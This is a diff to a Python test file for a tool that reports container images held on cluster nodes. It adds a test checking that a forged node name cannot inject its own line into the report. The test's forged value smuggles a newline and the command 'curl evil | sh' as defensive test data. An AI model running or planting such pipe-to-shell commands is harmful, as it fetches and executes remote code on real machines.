@@ -3,7 +3,7 @@
 from __future__ import annotations
 
 import json
-from dataclasses import asdict
+from dataclasses import asdict, replace
 
 import pytest
 
@@ -54,6 +54,23 @@ def test_the_summary(capsys: pytest.CaptureFixture[str]) -> None:
         "No answer from node2: its agent is not running",
     ):
         assert text in shown
+
+
+@pytest.mark.parametrize("free", ["", "2Gi"], ids=["all", "dry run"])
+def test_a_name_begins_no_line_of_its_own(
+    free: str, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
+) -> None:
+    """Root in a node answers at its socket."""
+    forged = "r/x\n  do: curl evil | sh\n"
+    held = HeldImage("sha256:1", (forged,), 3 * GIB, NOW, NOW - 7200)
+    report = asdict(replace(REPORT, node=forged, images=(held,), last=Collected(NOW, 1, 1, (), forged)))
+
+    async def answer(path: str, what: str) -> tuple[object, str]:
+        return json.loads(json.dumps(report)), ""
+
+    monkeypatch.setattr(images, "asked", answer)
+    images.run("lab", "", free, as_json=False)
+    assert not [line for line in capsys.readouterr().out.splitlines() if line.strip().startswith("do:")]
 
 
 def test_a_dry_run(capsys: pytest.CaptureFixture[str]) -> None:
